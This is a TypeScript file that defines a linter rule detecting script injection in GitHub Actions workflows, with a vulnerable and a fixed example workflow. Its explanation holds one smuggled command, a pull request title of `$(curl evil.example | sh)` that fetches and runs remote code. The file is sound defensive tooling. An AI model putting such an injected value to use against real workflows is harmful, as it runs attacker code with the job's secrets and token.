import { codeOf } from "../../code.ts";
import { defineRule } from "../../rule.ts";
import { worstOf } from "../../trust.ts";

export const scriptInjection = defineRule({
  id: "policy/script-injection",
  severity: "error",
  summary: "Text that others write becomes a part of a script.",
  why: "GitHub puts the text into the script before the shell reads it: a title such as `$(curl evil.example | sh)` is a command, and runs with the job's secrets and token.",
  hint: 'pass it through `env` and read the variable: `"$TITLE"` in a shell, `process.env.TITLE` in JavaScript',
  reference: "https://docs.github.com/actions/concepts/security/script-injections",
  examples: {
    kind: "workflow",
    bad: `name: Example
on:
  pull_request: {}
permissions: {}
concurrency:
  group: example-\${{ github.ref }}
  cancel-in-progress: true
jobs:
  example:
    name: Example
    runs-on: ubuntu-latest
    timeout-minutes: 10
    steps:
      - name: Look at the title
        run: |
          title="\${{ github.event.pull_request.title }}"
          test "\${#title}" -lt 72
`,
    good: `name: Example
on:
  pull_request: {}
permissions: {}
concurrency:
  group: example-\${{ github.ref }}
  cancel-in-progress: true
jobs:
  example:
    name: Example
    runs-on: ubuntu-latest
    timeout-minutes: 10
    steps:
      - name: Look at the title
        env:
          TITLE: \${{ github.event.pull_request.title }}
        run: test "\${#TITLE}" -lt 72
`,
  },
  check: ({ steps }, report) => {
    for (const step of steps)
      for (const expression of codeOf(step).flatMap(({ expressions }) => expressions)) {
        const { access, trust } = worstOf(expression, step) ?? {};
        if (trust === "stranger")
          report(expression.place, `\`${access?.text}\` can be written by anyone, and becomes a part of the script`);
        if (trust === "input")
          report(
            expression.place,
            `\`${access?.text}\` is free text of whoever starts the run, and becomes a part of the script`,
            { severity: "warning" },
          );
      }
  },
});
